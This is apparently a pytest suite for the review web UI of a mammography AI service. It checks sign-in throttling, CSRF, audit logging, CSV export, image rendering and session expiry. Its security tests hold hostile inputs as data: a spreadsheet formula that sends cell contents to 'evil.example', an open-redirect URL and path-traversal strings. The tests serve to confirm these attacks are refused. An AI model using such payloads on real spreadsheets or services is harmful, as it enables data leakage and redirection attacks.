"""The review UI over HTTP: refusal without a session, sign-in and its throttle, the worklist's order and filters,
calls (CSRF, audit, export, agreement), rendered images and heatmaps, session expiry, the users CLI."""

import csv
import io
import json
import re

import httpx
import numpy as np
import pydicom
import pytest
from helpers import ADMIN, READER
from PIL import Image

from medvision.cli import main


def _login(server, user) -> httpx.Client:
    c = httpx.Client(base_url=server.url, timeout=60)
    r = c.post("/ui/login", data={"username": user[0], "password": user[1], "next": "/ui/worklist"})
    assert r.status_code == 303 and r.headers["location"] == "/ui/worklist", r.text
    return c


def _csrf(client) -> str:
    page = client.get("/ui/worklist").text
    return re.search(r'name="csrf-token" content="([^"]+)"', page).group(1)


def _image(server) -> tuple[int, str]:
    """The first stored image of the first study: its id in the UI's URLs, and its SOP Instance UID."""
    from sqlalchemy import select

    from medvision.serving.tables import Instance

    with server.sessions() as db:
        row = db.execute(select(Instance.id, Instance.sop_instance_uid).where(
            Instance.site == "pacs", Instance.study_instance_uid == server.studies[0]).order_by(Instance.id)).first()
    return row[0], row[1]


def _from(address: str) -> httpx.Client:
    """A browser on another machine: loopback has every 127.x.y.z address, so the service sees another client."""
    return httpx.Client(transport=httpx.HTTPTransport(local_address=address), timeout=60)


def test_every_ui_page_image_and_api_refuses_without_a_session(ui_server):
    study, (image, _) = f"pacs/{ui_server.studies[0]}", _image(ui_server)
    anon = httpx.Client(base_url=ui_server.url, timeout=30)
    for path in ("/ui/worklist", f"/ui/studies/{study}", "/ui/admin"):
        r = anon.get(path)
        assert r.status_code == 303 and r.headers["location"].startswith("/ui/login?next="), path
    # an API key is not a UI session, and neither is a made-up cookie
    keyed = httpx.Client(base_url=ui_server.url, timeout=30, headers={"Authorization": f"Bearer {ui_server.key}"})
    forged = httpx.Client(base_url=ui_server.url, timeout=30, cookies={"mv_session": "not-a-session"})
    for c in (anon, keyed, forged):
        for path in ("/ui/api/worklist", f"/ui/api/studies/{study}", f"/ui/images/{image}.png",
                     f"/ui/images/{image}/heatmap.png", "/ui/export.csv"):
            r = c.get(path)
            assert r.status_code == 401 and r.json()["code"] == "unauthenticated", (path, r.text)
            assert not r.headers["content-type"].startswith("image/")
        r = c.post(f"/ui/api/studies/{study}/call", json={"call": "agree"})
        assert r.status_code == 401
    login = anon.get("/ui/login")
    assert "Sign in" in login.text
    # pages may load nothing from elsewhere, cannot be framed and send no Referer (URLs carry study UIDs)
    assert "default-src 'self'" in login.headers["content-security-policy"]
    assert login.headers["referrer-policy"] == "no-referrer" and login.headers["x-frame-options"] == "DENY"


def test_failed_sign_ins_are_throttled_per_address_and_never_lock_a_reader_out(ui_server):
    from medvision.serving.tables import AuditEvent
    from medvision.serving.users import MAX_FAILURES_PER_ADDRESS, MAX_FAILURES_PER_NAME, create_user

    with ui_server.sessions() as db:
        create_user(db, "target1", "right-password-1", "reader")
    url = ui_server.url
    attacker, reader = _from("127.0.0.2"), _from("127.0.0.3")
    for _ in range(MAX_FAILURES_PER_NAME):
        r = attacker.post(f"{url}/ui/login", data={"username": "target1", "password": "wrong-password"})
        assert r.status_code == 200 and "wrong password" in r.text and "mv_session" not in r.cookies
    r = attacker.post(f"{url}/ui/login", data={"username": "target1", "password": "right-password-1"})
    assert r.status_code == 429 and "Too many failed sign-ins" in r.text and "mv_session" not in r.cookies
    assert int(r.headers["retry-after"]) > 0
    # the reader, at their own workstation, signs in as always: the attacker cannot lock them out
    r = reader.post(f"{url}/ui/login", data={"username": "target1", "password": "right-password-1"})
    assert r.status_code == 303 and "mv_session" in r.cookies
    # an unknown user gets the same page as a wrong password: the form cannot be used to find user names
    r = attacker.post(f"{url}/ui/login", data={"username": "nobody", "password": "my-secret-password"})
    assert r.status_code == 200 and "wrong password" in r.text
    # past the address's limit every name is refused from there, and only from there
    for i in range(MAX_FAILURES_PER_ADDRESS - MAX_FAILURES_PER_NAME - 1):
        attacker.post(f"{url}/ui/login", data={"username": f"guess{i}", "password": "x"})
    r = attacker.post(f"{url}/ui/login", data={"username": READER[0], "password": READER[1]})
    assert r.status_code == 429
    assert _from("127.0.0.4").post(f"{url}/ui/login", data={"username": READER[0], "password": READER[1]}).status_code == 303
    with ui_server.sessions() as db:
        failed = [(e.resource, e.detail.get("reason"), e.status) for e in
                  db.query(AuditEvent).filter(AuditEvent.action == "ui_login_failed").order_by(AuditEvent.id)]
    assert failed.count(("target1", "wrong_password", 401)) == MAX_FAILURES_PER_NAME
    assert ("", "throttled", 429) in failed
    # a name that is nobody's (perhaps a password typed into the wrong field) is not written down
    assert ("", "unknown_user", 401) in failed and not [f for f in failed if "secret" in f[0] or "guess" in f[0]]
    # an open redirect is not possible through ?next=
    r = _login(ui_server, READER).post("/ui/login", data={"username": READER[0], "password": READER[1],
                                                        "next": "https://evil.example/"})
    assert r.headers["location"] == "/ui/worklist"


def test_sign_ins_racing_each_other_stay_within_the_throttle_and_a_flood_gets_busy(ui_server, monkeypatch):
    from concurrent.futures import ThreadPoolExecutor

    from medvision.serving.routes import ui
    from medvision.serving.users import MAX_FAILURES_PER_NAME

    def attempt(_):
        with _from("127.0.0.9") as c:
            return c.post(f"{ui_server.url}/ui/login", data={"username": READER[0], "password": "wrong-password"})

    with ThreadPoolExecutor(12) as pool:
        answers = [r.status_code for r in pool.map(attempt, range(12))]
    # each attempt counts from its start: racing ones cannot all slip under the limit together
    assert answers.count(200) <= MAX_FAILURES_PER_NAME + 1 and answers.count(429) >= 12 - MAX_FAILURES_PER_NAME - 1
    monkeypatch.setattr(ui, "LOGIN_QUEUE", 0)  # as if sign-ins were already queued for the password checks
    r = _from("127.0.0.10").post(f"{ui_server.url}/ui/login", data={"username": READER[0], "password": READER[1]})
    assert r.status_code == 503 and r.headers["retry-after"] and "busy" in r.text


def test_worklist_is_in_suspicion_order_with_filters_and_search(ui_server):
    c = _login(ui_server, READER)
    studies = c.get("/ui/api/worklist").json()["studies"]
    assert {s["study_instance_uid"] for s in studies} == set(ui_server.studies)
    probabilities = [s["probability"] for s in studies]
    assert probabilities == sorted(probabilities, reverse=True)
    results = {u: ui_server.client.get(f"/v1/studies/{u}/results").json()["images"] for u in ui_server.studies}
    for s in studies:  # a study's suspicion is its most suspicious image
        assert s["probability"] == pytest.approx(max(i["probability"] for i in results[s["study_instance_uid"]]))
        assert s["images"] == 4 and s["site"] == "pacs" and s["accession"]
    target = studies[-1]
    found = c.get("/ui/api/worklist", params={"q": target["accession"]}).json()["studies"]
    assert [s["study_instance_uid"] for s in found] == [target["study_instance_uid"]]
    assert c.get("/ui/api/worklist", params={"q": target["study_instance_uid"]}).json()["count"] == 1
    assert c.get("/ui/api/worklist", params={"site": "elsewhere"}).json()["count"] == 0
    assert c.get("/ui/api/worklist", params={"model": target["model_version"]}).json()["count"] == len(studies)
    assert c.get("/ui/api/worklist", params={"from": "2999-01-01"}).json()["count"] == 0
    r = c.get("/ui/api/worklist", params={"from": "yesterday"})
    assert r.status_code == 422 and "YYYY-MM-DD" in r.json()["detail"]
    assert c.get("/ui/api/worklist", params={"to": "9999-12-31"}).status_code == 422  # not a 500 (date overflow)
    with ui_server.sessions() as db:  # searches are accesses: audited with what was asked for
        from medvision.serving.tables import AuditEvent

        searched = [e.detail["filters"] for e in db.query(AuditEvent).filter(AuditEvent.action == "ui_search_worklist")]
    assert {"q": target["accession"]} in searched and {"status": "unread"} not in searched
    newest = c.get("/ui/api/worklist", params={"sort": "newest"}).json()["studies"]
    assert [s["scored_at"] for s in newest] == sorted((s["scored_at"] for s in newest), reverse=True)
    # the study view: images in hanging order with presets, neighbours in worklist order
    detail = c.get(f"/ui/api/studies/pacs/{studies[1]['study_instance_uid']}").json()
    assert detail["previous"] == {"site": "pacs", "study_instance_uid": studies[0]["study_instance_uid"]}
    assert detail["next"] == {"site": "pacs", "study_instance_uid": studies[2]["study_instance_uid"]}
    hanging = [(i["laterality"], i["view"]) for i in detail["images_detail"]]
    assert hanging == [("R", "CC"), ("L", "CC"), ("R", "MLO"), ("L", "MLO")]
    assert all(i["stored"] and "default" in i["presets"] for i in detail["images_detail"])
    # what the probability means: this test model was exported without 'medvision evaluate'
    assert detail["calibration"].startswith("Not calibrated")
    assert c.get("/ui/api/studies/pacs/1.2.3.4.5").status_code == 404
    assert c.get(f"/ui/api/studies/elsewhere/{studies[0]['study_instance_uid']}").status_code == 404
    for bad in ("%2E%2E", "1.2.03", "x" * 70):
        r = c.get(f"/ui/api/studies/pacs/{bad}")
        assert r.status_code == 400 and r.json()["code"] == "invalid_uid", bad
    assert c.get("/ui/api/studies/pacs/..%2F..%2Fetc").status_code == 404  # a slash never reaches a parameter
    r = c.get(f"/ui/api/studies/%2E%2E/{studies[0]['study_instance_uid']}")
    assert r.status_code == 400 and r.json()["code"] == "invalid_site"


def test_a_call_needs_the_csrf_token_and_lands_in_audit_export_and_agreement(ui_server):
    reader, admin = _login(ui_server, READER), _login(ui_server, ADMIN)
    study = ui_server.studies[2]
    call = f"/ui/api/studies/pacs/{study}/call"
    r = reader.post(call, json={"call": "disagree", "comment": "benign calcification"})
    assert r.status_code == 403 and r.json()["code"] == "csrf_failed"
    token = _csrf(reader)
    bad = reader.post(call, json={"call": "maybe"}, headers={"X-CSRF-Token": token})
    assert bad.status_code == 422 and "agree, disagree, uncertain" in bad.json()["detail"]
    bad = reader.post(call, json={"call": "agree", "birads": "7"}, headers={"X-CSRF-Token": token})
    assert bad.status_code == 422
    r = reader.post(call, json={"call": "disagree", "birads": "2", "comment": "benign calcification"},
                    headers={"X-CSRF-Token": token})
    assert r.status_code == 200 and r.json()["call"] == "disagree"
    assert [s["study_instance_uid"] for s in reader.get("/ui/api/worklist", params={"status": "disagreed"}).json()["studies"]] == [study]
    assert study not in {s["study_instance_uid"] for s in reader.get("/ui/api/worklist", params={"status": "unread"}).json()["studies"]}
    admin_token = _csrf(admin)
    formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    assert admin.post(f"/ui/api/studies/pacs/{ui_server.studies[3]}/call", json={"call": "agree", "comment": formula},
                      headers={"X-CSRF-Token": admin_token}).status_code == 200
    # readers cannot export or see the admin page; the admin can
    assert reader.get("/ui/export.csv").status_code == 403
    assert "needs the admin role" in reader.get("/ui/admin").text
    r = admin.get("/ui/export.csv")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(r.text)))
    mine = [row for row in rows if row["study_instance_uid"] == study]
    assert mine and mine[0]["call"] == "disagree" and mine[0]["comment"] == "benign calcification"
    assert mine[0]["reader"] == READER[0] and mine[0]["birads"] == "2" and float(mine[0]["ai_probability"]) > 0
    assert mine[0]["site"] == "pacs"
    # a comment a spreadsheet would run as a formula is exported as text
    theirs = next(row for row in rows if row["study_instance_uid"] == ui_server.studies[3])
    assert theirs["comment"] == "'" + formula
    page = admin.get("/ui/admin").text
    assert "ui_call" in page and study in page and "50.0 % (1)" in page  # one agree, one disagree
    assert "benign calcification" not in page  # comments are in the export, not in the audit log


def test_images_render_through_the_dicom_pipeline_with_windows_and_heatmap(ui_server):
    from medvision.dicom_io import read_dicom
    from medvision.preprocess import to_display

    c = _login(ui_server, READER)
    image, sop = _image(ui_server)
    app = ui_server.server.config.app.state
    r = c.get(f"/ui/images/{image}.png")
    assert r.status_code == 200 and r.headers["content-type"] == "image/png"
    img = np.asarray(Image.open(io.BytesIO(r.content)))
    from medvision.serving import reviews

    with app.db() as db:
        path = reviews.image_path(db, image)
    stored, meta = read_dicom(path)
    expected = (to_display(stored, meta, app.engine.preprocess.cfg) * 255).round()
    assert img.shape == stored.shape and np.abs(img.astype(float) - expected).max() <= 1
    info = c.get(f"/ui/api/studies/pacs/{ui_server.studies[0]}").json()["images_detail"]
    preset = next(i for i in info if i["sop_instance_uid"] == sop)["presets"]["dense"]
    narrow = np.asarray(Image.open(io.BytesIO(c.get(f"/ui/images/{image}.png", params={"wc": preset["center"],
                                                                                      "ww": preset["width"]}).content)))
    assert narrow.shape == img.shape and not np.array_equal(narrow, img)
    heat = Image.open(io.BytesIO(c.get(f"/ui/images/{image}/heatmap.png").content))
    assert heat.mode == "RGBA" and heat.size == (img.shape[1], img.shape[0])
    alpha = np.asarray(heat)[..., 3]
    assert alpha.max() > 0 and alpha.min() == 0  # coloured where the model looked, transparent outside its view
    assert c.get("/ui/images/999999.png").status_code == 404
    assert c.get("/ui/images/99999999999999999999.png").status_code == 422  # out of range: refused, not a 500
    assert c.get("/ui/images/1.2.3.png").status_code == 422  # an image is named by its number, nothing else
    # every view is audited, with the image it showed
    from medvision.serving.tables import AuditEvent

    with app.db() as db:
        views = {(e.action, e.resource, e.status) for e in db.query(AuditEvent).filter(
            AuditEvent.action.in_(("ui_view_image", "ui_view_heatmap")))}
    assert {("ui_view_image", str(image), 200), ("ui_view_heatmap", str(image), 200),
            ("ui_view_image", "999999", 404)} <= views
    # renderings on disk are the service user's alone
    renders = [p for p in (ui_server.data_dir / "renders").rglob("*.png")]
    assert renders and all(p.stat().st_mode & 0o077 == 0 for p in renders)


def test_a_view_that_cannot_be_read_is_named_and_the_study_still_opens(ui_server, tmp_path):
    """A stored view damaged since it was scored: the study opens with its other views, and that one says why it
    cannot be shown (the reader's refusal, by name), not a failed study."""
    from sqlalchemy import select

    from medvision.serving.tables import Instance

    study = ui_server.studies[4]
    with ui_server.sessions() as db:
        rows = db.execute(select(Instance.path, Instance.sop_instance_uid, Instance.id).where(
            Instance.site == "pacs", Instance.study_instance_uid == study).order_by(Instance.id)).all()
    from medvision.dicom_io import read_dicom
    from medvision.errors import CorruptDicomError

    data = ui_server.server.config.app.state.data
    # a view cut off inside its pixel data, of a syntax whose refusal (pydicom's words) names the file in full:
    # chosen on a copy, so that no other stored view is ever damaged, not even for a moment
    trial = tmp_path / "trial.dcm"
    for at, row in enumerate(rows):
        original = data.inside(row[0]).read_bytes()
        trial.write_bytes(original[:len(original) // 2])
        with pytest.raises(CorruptDicomError) as refusal:
            read_dicom(trial, long_side=1024)
        if str(trial) in refusal.value.message:
            rows.insert(0, rows.pop(at))
            damaged = data.inside(row[0])
            damaged.write_bytes(original[:len(original) // 2])
            break
    else:
        pytest.fail("no view's refusal names its file: nothing here to leave out")
    c = _login(ui_server, READER)
    try:
        r = c.get(f"/ui/api/studies/pacs/{study}")
        assert r.status_code == 200, r.text
        images = {i["sop_instance_uid"]: i for i in r.json()["images_detail"]}
        why = images[rows[0][1]]["unreadable"]
        assert why.startswith("Corrupt DICOM.") and "truncated" in why and "presets" not in images[rows[0][1]]
        assert str(damaged.parent) not in why  # the catalogue's words, not the decoder's (which name the file)
        others = {uid: images[uid].get("unreadable") for _, uid, _ in rows[1:]}
        assert all("presets" in images[uid] for uid in others) and not any(others.values()), others
        # asked for itself, it is refused by name; where the service keeps its files is not said
        root = str(data.root)
        refused = c.get(f"/ui/images/{rows[0][2]}.png", params={"size": 1024})
        assert refused.status_code == 422 and refused.json()["code"] == "corrupt_dicom"
        assert "truncated" in refused.json()["detail"] and root not in refused.text
    finally:
        damaged.write_bytes(original)


def test_only_a_files_own_refusal_marks_a_view_unreadable(monkeypatch, tmp_path):
    """A busy or stopping service is not a damaged file: the study's request gets that problem (retry later), and no
    view is shown as if it could never be read."""
    from medvision.errors import CorruptDicomError
    from medvision.serving.batcher import TimedOut
    from medvision.serving.decode_pool import DecodersStopped
    from medvision.serving.routes import ui

    def refusing(exc):
        def _info(app, path):
            raise exc
        return _info

    monkeypatch.setattr(ui, "_info", refusing(CorruptDicomError("cut off inside its pixel data")))
    assert ui._info_or_why_not(None, tmp_path / "x.dcm")["unreadable"].startswith("Corrupt DICOM.")
    for transient in (TimedOut("no worker free: the service is at capacity"), DecodersStopped("shutting down")):
        monkeypatch.setattr(ui, "_info", refusing(transient))
        with pytest.raises(type(transient)):
            ui._info_or_why_not(None, tmp_path / "x.dcm")


def test_sessions_expire_and_sign_out_ends_them(ui_server):
    import datetime as _dt

    from medvision.serving.db import open_database
    from medvision.serving.tables import UiSession

    c = _login(ui_server, READER)
    assert c.get("/ui/api/worklist").status_code == 200
    with open_database(ui_server.server.config.app.state.settings.database_url)() as db:
        for s in db.query(UiSession).all():
            s.expires_at = _dt.datetime.now(_dt.UTC) - _dt.timedelta(seconds=1)
        db.commit()
    assert c.get("/ui/api/worklist").status_code == 401
    c = _login(ui_server, READER)
    token = _csrf(c)
    assert c.post("/ui/logout", data={"csrf": token}).status_code == 303
    assert c.get("/ui/api/worklist").status_code == 401


def test_users_cli_creates_lists_and_disables(tmp_path, monkeypatch, capsys):
    db = f"sqlite:///{tmp_path / 'users.db'}"
    monkeypatch.setattr("sys.stdin", io.StringIO("a-long-password\n"))
    assert main(["users", "--database", db, "create", "dr.grey", "--role", "admin", "--password-stdin"]) == 0
    assert json.loads(capsys.readouterr().out) == {"username": "dr.grey", "role": "admin"}
    assert main(["users", "--database", db, "create", "dr.house"]) == 0
    generated = json.loads(capsys.readouterr().out)["password"]
    assert len(generated) >= 12
    monkeypatch.setattr("sys.stdin", io.StringIO("short\n"))
    assert main(["users", "--database", db, "create", "dr.who", "--password-stdin"]) != 0
    assert "at least 10 characters" in capsys.readouterr().err
    assert main(["users", "--database", db, "disable", "dr.house"]) == 0
    capsys.readouterr()
    assert main(["users", "--database", db, "list"]) == 0
    listed = {u["username"]: u for u in json.loads(capsys.readouterr().out)}
    assert listed["dr.house"]["disabled"] and not listed["dr.grey"]["disabled"] and listed["dr.grey"]["role"] == "admin"
    assert "password" not in json.dumps(listed)
    from medvision.serving.db import open_database
    from medvision.serving.users import authenticate

    with open_database(db)() as s:
        assert authenticate(s, "dr.grey", "a-long-password", "127.0.0.1")[0] is not None
        assert authenticate(s, "dr.house", generated, "127.0.0.1") == (None, "disabled")


def test_monochrome1_renders_bright_where_dense(ui_server, dicom_files):
    """A MONOCHROME1 image is inverted on display (high stored values are dark), whatever window is asked for."""
    from medvision.serving import reviews

    c = _login(ui_server, READER)
    app = ui_server.server.config.app.state
    with app.db() as db:
        ids = [i["image_id"] for u in ui_server.studies for i in reviews.study(db, "pacs", u)["images_detail"]]
        paths = {i: reviews.image_path(db, i) for i in ids}
    mono1 = [i for i, p in paths.items() if pydicom.dcmread(p, stop_before_pixels=True).PhotometricInterpretation == "MONOCHROME1"]
    assert mono1, "the synthetic set should contain MONOCHROME1 images"
    ds = pydicom.dcmread(paths[mono1[0]])
    raw = ds.pixel_array.astype(float)
    img = np.asarray(Image.open(io.BytesIO(c.get(f"/ui/images/{mono1[0]}.png", params={"wc": raw.mean(), "ww": np.ptp(raw)}).content)))
    assert img[raw == raw.max()].mean() < img[raw == raw.min()].mean()
